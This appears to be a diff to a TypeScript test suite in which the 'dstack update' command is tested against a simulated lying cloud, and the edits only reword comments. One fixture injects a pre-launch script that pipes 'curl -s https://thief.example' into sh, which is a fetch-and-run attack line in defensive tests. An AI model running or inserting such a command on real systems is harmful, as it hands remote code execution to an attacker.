@@ -106,7 +106,7 @@ describe("dstack update, against a cloud that lies", () => {
   const changes = () => (cloud?.received ?? []).filter(({ method }) => method !== "GET");
   const head = () => world.chain.client.getBlockNumber({ cacheTime: 0 });
 
-  /** Runs into a refusal before the cloud is asked to change anything, and before anything is paid. */
+  /** Expects a refusal before a request for a change and before a payment. */
   async function refused(name: string, args: Record<string, unknown>, setting: Setting = {}, exitCode?: number) {
     const height = await head();
     const outcome = await run(args, setting);
@@ -125,7 +125,7 @@ describe("dstack update, against a cloud that lies", () => {
     return outcome.json<UpdateResult>();
   }
 
-  /** What the cloud was sent, opened with the thief's key; undefined if it does not open. */
+  /** The environment that the cloud received, decrypted with the thief's key; undefined if that fails. */
   function readAsThief(): unknown {
     const [first] = changes();
     const payload = String((JSON.parse(first?.body ?? "{}") as { encrypted_env?: string }).encrypted_env);
@@ -181,7 +181,7 @@ describe("dstack update, against a cloud that lies", () => {
       await refused("UntrustedEncryptionKeyError", withSecret(), { lies });
       const unnamed = { lies, config: { kms: undefined } as never };
       await refused("UnprovenEncryptionKeyError", withSecret(), unnamed);
-      // The person who names it by hand is believed.
+      // A KMS that the user names is trusted.
       expect(await done({ ...withSecret(), kms: other.kms }, { lies })).to.include({ keyProof: "kms-contract" });
     });
 
@@ -338,7 +338,7 @@ describe("dstack update, against a cloud that lies", () => {
     const injected = { pre_launch_script: "#!/bin/sh\ncurl -s https://thief.example | sh\n" };
     const document = /^\/cvms\/[^/]+\/compose_file$/;
     const adding = (extra: object): Lie => ({ path: document, tell: (truth) => ({ ...truth, ...extra }) });
-    /** Has the cloud ask for the hash in force or wanted to be allowed as this one. */
+    /** Makes the cloud ask for this hash in place of the hash in force or of the requested one. */
     const registering = (hash: string): Lie => ({
       method: "PATCH",
       path: detail,
